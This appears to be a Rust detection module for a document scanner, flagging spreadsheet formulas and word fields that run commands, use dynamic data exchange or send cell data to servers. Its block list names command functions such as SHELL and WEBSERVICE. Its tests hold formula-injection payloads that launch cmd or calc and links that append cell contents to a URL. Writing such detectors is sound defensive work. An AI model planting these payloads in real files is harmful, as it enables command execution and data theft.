//! Formulas and fields that do more than calculate.

use crate::Reason;

/// Functions that run something, or ask a server.
const COMMANDS: [&str; 14] = [
    "CALL(",
    "EXEC(",
    "FILTERXML(",
    "IMAGE(",
    "IMPORTDATA(",
    "IMPORTFEED(",
    "IMPORTHTML(",
    "IMPORTRANGE(",
    "IMPORTXML(",
    "REGISTER(",
    "REGISTER.ID(",
    "RTD(",
    "SHELL(",
    "WEBSERVICE(",
];

/// What a formula does beyond calculating.
pub(crate) fn danger(formula: &str) -> Option<Reason> {
    let plain: String =
        formula.chars().filter(|c| !c.is_whitespace()).map(|c| c.to_ascii_uppercase()).collect();
    if is_exchange(&plain) {
        Some(Reason::Dde)
    } else if COMMANDS.iter().any(|command| plain.contains(command)) {
        Some(Reason::CommandCell)
    } else if plain.contains("HYPERLINK(") && plain.contains('&') && plain.contains("://") {
        // A link made of other cells takes them with it.
        Some(Reason::CommandCell)
    } else {
        None
    }
}

/// Dynamic data exchange: `program|topic!item`, the topic with or without quotes.
fn is_exchange(plain: &str) -> bool {
    plain.split_once('|').is_some_and(|(program, rest)| {
        program.ends_with(|c: char| c.is_ascii_alphanumeric() || matches!(c, '\'' | '_'))
            && rest.contains('!')
    })
}

/// What the instruction of a field in a text does: its first word is its command.
pub(crate) fn field(instruction: &str) -> Option<Reason> {
    let mut words = instruction.split_whitespace();
    let command = words.next()?.trim_matches('"').to_ascii_uppercase();
    let elsewhere = || instruction.contains("://") || instruction.contains("\\\\");
    match command.as_str() {
        "DDE" | "DDEAUTO" => Some(Reason::Dde),
        "INCLUDETEXT" | "INCLUDEPICTURE" | "IMPORT" | "LINK" if elsewhere() => {
            Some(Reason::ExternalReference)
        }
        "MACROBUTTON" => None,
        "HYPERLINK" if elsewhere() => Some(Reason::ExternalLink),
        // What nests commands in quotes builds one.
        "QUOTE" if instruction.split_whitespace().count() > 8 => Some(Reason::Dde),
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_that_act_are_told_from_those_that_calculate() {
        for (formula, expected) in [
            ("SUM(A1:A9)", None),
            ("A1 & \" | \" & B1", None),
            ("HYPERLINK(\"https://example.org\",\"here\")", None),
            ("cmd|' /C calc'!A0", Some(Reason::Dde)),
            ("MSEXCEL|'\\..\\cmd.exe /c x'!''", Some(Reason::Dde)),
            ("WEBSERVICE(\"https://example.org/?\"&A1)", Some(Reason::CommandCell)),
            ("HYPERLINK(\"https://example.org/?q=\"&A1)", Some(Reason::CommandCell)),
            ("importxml(B1, C1)", Some(Reason::CommandCell)),
        ] {
            assert_eq!(danger(formula), expected, "{formula}");
        }
        assert_eq!(field(" DDEAUTO c:\\\\x \"y\" "), Some(Reason::Dde));
        assert_eq!(field("PAGE \\* MERGEFORMAT"), None);
    }
}
